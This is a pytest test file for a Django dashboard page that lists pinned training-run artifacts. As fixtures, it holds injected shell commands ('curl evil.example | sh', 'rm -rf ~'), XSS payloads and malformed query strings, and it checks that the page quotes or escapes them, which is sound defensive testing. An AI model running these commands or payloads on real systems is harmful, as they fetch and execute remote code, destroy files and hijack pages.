"""The page of pins: where their bytes are, notes, odd addresses, hostile names."""

from __future__ import annotations

import re
from typing import Any

import pytest
from django.contrib.auth.models import User
from django.test import Client

from rollouts.models import Artifact, Pin, Project, Run
from rollouts.pins import artifacts, pins
from rollouts.replay import bindings, outcomes, plans
from rollouts.storage import files as storage
from tests.dashboard.pages.pins.support import HOST, TRAP, create_remote_artifact, get_page, record_poll
from tests.rollouts.support.push import generation, index_file, lines
from tests.support import builders
from tests.support.html import collapse_spaces

ODD = [
    "base=x", "base=1&pin=x&target=1", "plan=%00", "plan=../x", "run=%00", "steps=9e9", "base=0&pin=1", "add=x",
    "remove=99", "steps=99999999", "base=" + "9" * 40, "base=0&action=x&on_mismatch=x", "base=0&pin=999&target=1",
    "base=²", "base=0&remove=²&add=²", "base=0&pin=²&target=²",
]  # fmt: skip


def test_an_empty_page_says_how_to_get_a_pin(maintainer_client: Client, run: Run) -> None:
    page = get_page(maintainer_client, "/pins/")
    assert "No pins yet" in page and "rolloutdeck check --trainer" in page and 'href="/runs/grpo/steps/latest/"' in page
    assert "plan-form" not in page, "a plan of nothing says nothing"


def test_an_empty_page_names_the_runs_that_can_be_pinned(maintainer_client: Client, run: Run, project: Project) -> None:
    create_remote_artifact(run, 2)
    create_remote_artifact(builders.run(project, "spoilt"), 2)
    Artifact.objects.filter(run__name="spoilt").update(state=Artifact.State.UNSAFE)
    page = get_page(maintainer_client, "/pins/")
    assert 'Runs with steps that you can pin:<a href="/runs/grpo/steps/latest/">grpo</a></p>' in collapse_spaces(page)


@pytest.mark.parametrize(
    ("framework", "trainer"), [("trl", "trl"), ("slime", "slime"), ("", "verl"), ("own", "verl"), ("nemo_rl", "verl")]
)
def test_an_empty_page_suggests_the_check_for_the_trainer_of_the_newest_run(
    maintainer_client: Client, run: Run, framework: str, trainer: str
) -> None:
    Run.objects.filter(pk=run.pk).update(framework=framework)
    assert f"rolloutdeck check --trainer {trainer}<" in get_page(maintainer_client, "/pins/")


def test_a_pin_whose_machine_is_silent_shows_host_path_and_command(
    maintainer_client: Client, pin: Pin, run: Run
) -> None:
    page = get_page(maintainer_client, "/pins/")
    assert "WAITING" in page and "has not polled for 60 s" in page
    assert "rolloutdeck import /dumps/2 --project math --run grpo" in page
    record_poll(pin.pk, run)
    assert "is polling and uploads" in get_page(maintainer_client, "/pins/")
    record_poll(pin.pk, run, 61)
    assert "has not polled for 60 s" in get_page(maintainer_client, "/pins/")


def test_a_shown_command_is_one_quoted_call_of_rolloutdeck(
    maintainer_client: Client, run: Run, maintainer: User
) -> None:
    command = "rolloutdeck import /d; curl evil.example | sh"
    origin = {"host": HOST, "path": "/d; rm -rf ~", "command": command}
    create_remote_artifact(run, 2, files={"gen_batch.dp": {"sha256": "a" * 64, "bytes": 9}}, origin=origin)
    create_remote_artifact(run, 1, origin={"host": HOST, "path": "/d; rm -rf ~", "command": "curl evil.example | sh"})
    pins.pin_step(run, 2, maintainer)
    pins.pin_step(run, 1, maintainer)
    page = get_page(maintainer_client, "/pins/")
    rendered = re.findall(r"<pre>(rolloutdeck import[^<]*)</pre>", page)
    assert "rolloutdeck import &#x27;/d;&#x27; curl evil.example &#x27;|&#x27; sh" in rendered
    assert "rolloutdeck import &#x27;/d; rm -rf ~&#x27; --project math --run grpo" in rendered


@pytest.mark.parametrize(("state", "label"), [("unsafe", "UNSAFE"), ("gone", "UNAVAILABLE")])
def test_a_pin_that_cannot_be_replayed_says_why(maintainer_client: Client, pin: Pin, state: str, label: str) -> None:
    pin.artifacts.update(state=state, message="gen_batch.dp: a REDUCE of os.system.")
    page = get_page(maintainer_client, "/pins/")
    assert label in page and "a REDUCE of os.system." in page


def test_an_upload_shows_its_progress(maintainer_client: Client, pin: Pin, run: Run) -> None:
    files = {name: {"sha256": name * 64, "bytes": size} for name, size in (("a", 400), ("b", 600))}
    artifact = create_remote_artifact(run, 3, files=files)
    pins.pin_step(run, 3, pin.user)
    plain = storage.create_incoming_path()
    plain.write_bytes(b"x" * 400)
    artifacts.store_artifact_file(artifact, "a" * 64, plain, 400)
    page = get_page(maintainer_client, "/pins/")
    assert "UPLOADING" in page and "40 %" in page


def test_a_note_is_changed_and_a_pin_removed(maintainer_client: Client, pin: Pin) -> None:
    assert maintainer_client.post(f"/pins/{pin.pk}/note/", {"note": "other"}).status_code == 303
    assert "other" in get_page(maintainer_client, "/pins/")
    maintainer_client.post(f"/pins/{pin.pk}/remove/")
    assert "No pins yet" in get_page(maintainer_client, "/pins/")


def test_a_pin_in_the_plan_is_not_removed(maintainer_client: Client, pin: Pin, maintainer: User) -> None:
    plans.save_plan(pin.project, "default", maintainer, if_match=0, action="cache", entries=[(pin, 3)])
    maintainer_client.post(f"/pins/{pin.pk}/remove/", {"next": "/pins/"})
    assert "Remove it from the plan first" in get_page(maintainer_client, "/pins/")
    assert Pin.objects.get().removed_at is None


@pytest.mark.parametrize("query", ODD)
def test_invalid_parameters_do_not_break_the_page(maintainer_client: Client, pin: Pin, query: str) -> None:
    assert maintainer_client.get(f"/pins/?{query}", follow=True).status_code == 200


def test_a_page_of_many_pins_takes_as_many_queries_as_one_of_few(
    maintainer_client: Client, maintainer: User, pin: Pin, run: Run, django_assert_max_num_queries: Any
) -> None:
    entries = [(pin, 1)]
    for step in range(3, 13):
        create_remote_artifact(run, step)
        entries.append((pins.pin_step(run, step, maintainer)[0], step))
    for number in range(40):
        plans.save_plan(
            pin.project, "default", maintainer, if_match=number, action="cache", entries=entries[: number + 1]
        )
    get_page(maintainer_client, "/pins/")
    with django_assert_max_num_queries(45):
        page = get_page(maintainer_client, "/pins/")
    assert len(re.findall(r">\s*Add to plan\s*<", page)) == 11 and page.count("Edit a copy") == 29


def test_hostile_names_notes_and_paths_are_escaped(
    maintainer_client: Client, project: Project, maintainer: User
) -> None:
    run = builders.run(project, TRAP, uid="hostile")
    index_file(run, lines(generation()), 1)
    origin = {"host": "<img src=x>", "path": "/d/<script>x</script>", "command": "<script>alert(1)</script>"}
    artifact = create_remote_artifact(run, 1, origin=origin, facts={"model": TRAP, "versions": {TRAP: TRAP}})
    pin = pins.pin_step(run, 1, maintainer, note=TRAP)[0]
    plans.save_plan(project, "default", maintainer, if_match=0, action="cache", entries=[(pin, 1)])
    bindings.bind_run(run)
    outcomes.record_replay_outcome(run, "files", 1, "refused", pin=pin.pk, reason=TRAP)
    for url in ("/pins/", "/runs/hostile/", "/runs/hostile/steps/1/", f"/pins/?base=0&pin={pin.pk}&target=<script>"):
        page = get_page(maintainer_client, url)
        assert not re.search(r"<img|<script(?! src=)|\sstyle=|\son\w+=\"", page), url
        assert "49" not in re.findall(r"\{\{.*?\}\}", page)
    artifact.state, artifact.message = "unsafe", TRAP
    artifact.save()
    assert not re.search(r"<img|<script(?! src=)", get_page(maintainer_client, "/pins/"))
